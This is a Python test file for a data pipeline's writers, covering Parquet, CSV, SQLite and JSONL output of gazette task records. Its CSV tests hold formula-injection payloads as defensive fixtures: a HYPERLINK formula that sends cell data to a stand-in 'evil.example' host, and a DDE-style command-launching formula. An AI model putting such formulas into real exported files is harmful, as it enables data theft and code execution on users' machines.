"""The dataset writers: typed Parquet, flat CSV with formulas neutralised, streaming, determinism."""
from __future__ import annotations

import copy
import csv
import datetime as dt
import json
import sqlite3
import tracemalloc
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines.writers import files as writers
from pipelines.writers.fields import FIELDS
from pipelines.writers.files import arrow_schema, neutralise, write_dataset

KINDS = ("tasks", "documents", "references")
ALL = ("csv", "parquet", "sqlite")


@dataclass
class Outcome:
    """What batch.py passes for one PDF (FileOutcome without the bookkeeping)."""

    file: str
    tasks: list = field(default_factory=list)
    documents: list = field(default_factory=list)
    references: list = field(default_factory=list)
    error: dict | None = None


def jsonl(folder: Path, kind: str) -> list[dict]:
    return [json.loads(x) for x in (folder / f"{kind}.jsonl").read_text(encoding="utf-8").splitlines()]


def dev_outcomes(folder: Path) -> list[Outcome]:
    """The dev outputs cut back into one outcome per PDF, as the batch gives them."""
    by_file: dict[str, Outcome] = {}
    for kind in KINDS:
        for r in jsonl(folder, kind):
            name = r["source"]["file"]
            getattr(by_file.setdefault(name, Outcome(file=name)), kind).append(r)
    return [by_file[k] for k in sorted(by_file)]


def renamed(outcome: Outcome, n: int) -> Outcome:
    """A copy of ``outcome`` as if read from another PDF (``copy-N-…``): new file name and ids."""
    o = copy.deepcopy(outcome)
    stem = Path(o.file).stem
    o.file = f"copy-{n}-{o.file}"
    for kind in KINDS:
        for r in getattr(o, kind):
            r["source"]["file"] = o.file
            if "task_id" in r:
                r["task_id"] = f"copy-{n}-{stem}" + r["task_id"][len(stem):]
    return o


# ---------------------------------------------------------------- Parquet


@pytest.mark.parametrize("kind", KINDS)
def test_parquet_schema_is_the_declared_typed_schema(dev_outputs, kind):
    table = pq.read_table(dev_outputs / f"{kind}.parquet")
    assert table.schema.equals(arrow_schema(kind), check_metadata=False)
    assert table.num_rows == len(jsonl(dev_outputs, kind)) > 0
    types = {f.name: f.type for f in table.schema}
    assert not all(t == pa.string() for t in types.values())
    assert types["gazette_date"] == pa.date32() if kind != "references" else types["date"] == pa.date32()


def test_parquet_tasks_read_back_typed_in_pandas_and_pyarrow(dev_outputs):
    tasks = jsonl(dev_outputs, "tasks")
    table = pq.read_table(dev_outputs / "tasks.parquet")
    types = {f.name: f.type for f in table.schema}
    assert types["pages"] == pa.list_(pa.int32())
    assert types["gazette_issue"] == pa.int32() and types["ocr"] == pa.bool_()
    assert types["deadline_end"] == pa.date32() and types["confidence"] == pa.float64()
    assert pa.types.is_struct(types["lead"].value_type)
    assert [f.name for f in types["lead"].value_type] == ["raw", "name", "collective"]
    assert types["legal_refs"].value_type.field("date").type == pa.date32()
    assert pa.types.is_map(types["cells"])
    rows = table.to_pylist()
    assert [r["task_id"] for r in rows] == [t["task_id"] for t in tasks]
    for row, t in zip(rows, tasks):
        assert row["lead"] == t["lead"] and row["support"] == t["support"]
        assert row["pages"] == t["source"]["pages"]
        assert row["deadline_end"] == (dt.date.fromisoformat(t["deadline"]["end"])
                                       if t["deadline"] and t["deadline"]["end"] else None)
        assert dict(row["cells"]) == t["cells"]
    df = pd.read_parquet(dev_outputs / "tasks.parquet")
    assert str(df["gazette_issue"].dtype) == "int32" and str(df["ocr"].dtype) == "bool"
    assert isinstance(df["deadline_end"].dropna().iloc[0], dt.date)
    assert list(df["lead"].iloc[0][0]) == ["raw", "name", "collective"]


def test_parquet_documents_and_references_read_back_typed(dev_outputs):
    docs = pd.read_parquet(dev_outputs / "documents.parquet")
    first = jsonl(dev_outputs, "documents")[0]
    assert docs["date"].iloc[0] == dt.date.fromisoformat(first["date"])
    assert int(docs["tasks"].iloc[0]) == first["tasks"] and str(docs["tasks"].dtype) == "int32"
    assert docs["first_page"].iloc[0] == first["source"]["pages"][0]
    refs = pq.read_table(dev_outputs / "references.parquet").to_pylist()
    expected = jsonl(dev_outputs, "references")
    assert [r["key"] for r in refs] == [r["key"] for r in expected]
    assert [r["self"] for r in refs] == [r["self"] for r in expected]
    assert [r["warnings"] for r in refs] == [r["warnings"] for r in expected]


def test_empty_dataset_has_the_same_schemas(tmp_path):
    write_dataset(tmp_path, iter(()), ALL)
    for kind in KINDS:
        assert (tmp_path / f"{kind}.jsonl").read_bytes() == b""
        table = pq.read_table(tmp_path / f"{kind}.parquet")
        assert table.num_rows == 0 and table.schema.equals(arrow_schema(kind), check_metadata=False)
        header = (tmp_path / f"{kind}.csv").read_text(encoding="utf-8").splitlines()
        assert header == [",".join(FIELDS[kind][i].name for i in range(len(FIELDS[kind])))]
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    assert con.execute("SELECT count(*) FROM tasks_fts").fetchone() == (0,)
    assert json.loads((tmp_path / "metadata.json").read_text(encoding="utf-8"))["databases"]["congbao"]


# ---------------------------------------------------------------- CSV


@pytest.mark.parametrize("cell, expected", [
    ('=HYPERLINK("http://evil.example","bấm")', '\'=HYPERLINK("http://evil.example","bấm")'),  # the classic
    ("+84 290 3831", "'+84 290 3831"),        # a phone number a spreadsheet would add up
    ("- Tổ chức hội nghị", "'- Tổ chức hội nghị"),  # a bullet dash is a formula start too
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("Sở Nội vụ", "Sở Nội vụ"),               # ordinary text untouched
    ("59/2012/NĐ-CP", "59/2012/NĐ-CP"),       # a dash inside is harmless
    ("", ""),
], ids=["hyperlink", "plus", "dash", "at", "tab", "cr", "text", "inner-dash", "empty"])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_csv_neutralises_formulas_and_only_csv(dev_outputs, tmp_path):
    outcome = dev_outcomes(dev_outputs)[0]
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    outcome.tasks[0]["text"] = evil
    outcome.tasks[0]["lead"][0]["name"] = "+Sở Nội vụ"
    outcome.documents[0]["title"] = "@cmd|' /C calc'!A0"
    write_dataset(tmp_path, [outcome], ALL)
    with open(tmp_path / "tasks.csv", encoding="utf-8", newline="") as f:
        first = next(csv.DictReader(f))
    assert first["text"] == "'" + evil
    assert first["lead"].startswith("'+Sở Nội vụ")
    with open(tmp_path / "documents.csv", encoding="utf-8", newline="") as f:
        assert next(csv.DictReader(f))["title"] == "'@cmd|' /C calc'!A0"
    # The other views keep the text as printed.
    assert jsonl(tmp_path, "tasks")[0]["text"] == evil
    assert pq.read_table(tmp_path / "tasks.parquet").column("text")[0].as_py() == evil
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    assert con.execute("SELECT text FROM tasks WHERE rowid = 1").fetchone() == (evil,)


def test_csv_has_one_flat_row_per_record_with_gazette_and_deadline(dev_outputs):
    for kind in KINDS:
        with open(dev_outputs / f"{kind}.csv", encoding="utf-8", newline="") as f:
            rows = list(csv.DictReader(f))
        records = jsonl(dev_outputs, kind)
        assert len(rows) == len(records)
    with open(dev_outputs / "tasks.csv", encoding="utf-8", newline="") as f:
        tasks_csv = list(csv.DictReader(f))
    tasks = jsonl(dev_outputs, "tasks")
    for row, t in zip(tasks_csv, tasks):
        assert row["task_id"] == t["task_id"]
        assert row["gazette_name"] == t["gazette"]["name"] and row["gazette_issue"] == str(t["gazette"]["issue"])
        d = t["deadline"] or {}
        assert (row["deadline_kind"], row["deadline_end"], row["deadline_amount"]) == (
            d.get("kind") or "", d.get("end") or "", "" if d.get("amount") is None else str(d["amount"]))
        assert row["lead"] == neutralise("; ".join(a["name"] for a in t["lead"]))
        assert json.loads(row["cells"]) == t["cells"]
        assert row["document_id"] and t["task_id"].startswith(row["document_id"] + "/")


# ---------------------------------------------------------------- the whole dataset


def test_same_outcomes_give_byte_identical_files(dev_outputs, tmp_path):
    outcomes = dev_outcomes(dev_outputs)
    write_dataset(tmp_path / "a", iter(outcomes), ALL)
    write_dataset(tmp_path / "b", iter(copy.deepcopy(outcomes)), ALL)
    names = sorted(p.name for p in (tmp_path / "a").iterdir())
    assert names == sorted(p.name for p in (tmp_path / "b").iterdir())
    assert {"tasks.parquet", "documents.csv", "references.parquet", "congbao.sqlite", "metadata.json"} <= set(names)
    for name in names:
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name


def test_jsonl_lines_are_the_records_as_dumped(dev_outputs, tmp_path):
    outcomes = dev_outcomes(dev_outputs)
    write_dataset(tmp_path, outcomes, ())
    for kind in KINDS:
        assert (tmp_path / f"{kind}.jsonl").read_bytes() == (dev_outputs / f"{kind}.jsonl").read_bytes()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"{k}.jsonl" for k in KINDS)


def test_files_are_created_honouring_the_umask(dev_outputs, tmp_path):
    import os

    old = os.umask(0o022)
    try:
        write_dataset(tmp_path, dev_outcomes(dev_outputs), ALL)
        writers.write_atomic(tmp_path / "manifest.json", b"{}\n")
    finally:
        os.umask(old)
    for p in tmp_path.iterdir():
        assert p.stat().st_mode & 0o777 == 0o644, p.name


def _peak_bytes(outcomes) -> int:
    import tempfile

    with tempfile.TemporaryDirectory() as out:
        tracemalloc.start()
        try:
            write_dataset(Path(out), outcomes, ALL)
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()


def test_memory_stays_flat_as_the_number_of_files_grows(dev_outputs, monkeypatch):
    monkeypatch.setattr(writers, "ROW_GROUP_ROWS", 200)
    base = dev_outcomes(dev_outputs)[0]

    def stream(n):  # a generator: consumed once, each outcome made only when asked for
        return (renamed(base, i) for i in range(n))

    small, large = _peak_bytes(stream(5)), _peak_bytes(stream(60))
    # 12 times the records; holding them all would take ~12 times the memory.
    assert large < 2 * small, (small, large)


def test_parquet_is_written_in_row_groups(dev_outputs, tmp_path, monkeypatch):
    monkeypatch.setattr(writers, "ROW_GROUP_ROWS", 20)
    monkeypatch.setattr(writers, "CONVERT_ROWS", 8)
    write_dataset(tmp_path, dev_outcomes(dev_outputs), ("parquet",))
    meta = pq.ParquetFile(tmp_path / "tasks.parquet").metadata
    assert meta.num_rows == len(jsonl(dev_outputs, "tasks")) and meta.num_row_groups >= 3
    assert set(meta.metadata or {}) <= {b"ARROW:schema"}   # no clock or host in the footer


def test_two_inputs_of_one_name_keep_the_first_in_sqlite_and_both_in_jsonl(dev_outputs, tmp_path, caplog):
    # a/x.pdf and b/x.pdf give the same ids (ids are per file name); the run must not fail on it.
    outcome = dev_outcomes(dev_outputs)[0]
    write_dataset(tmp_path, [outcome, copy.deepcopy(outcome)], ("sqlite",))
    n = len(outcome.tasks)
    assert len(jsonl(tmp_path, "tasks")) == 2 * n
    con = sqlite3.connect(tmp_path / "congbao.sqlite")
    assert con.execute("SELECT count(*), count(DISTINCT task_id) FROM tasks").fetchone() == (n, n)
    assert con.execute("SELECT count(*) FROM tasks_fts").fetchone() == (n,)
    assert "left out of congbao.sqlite" in caplog.text
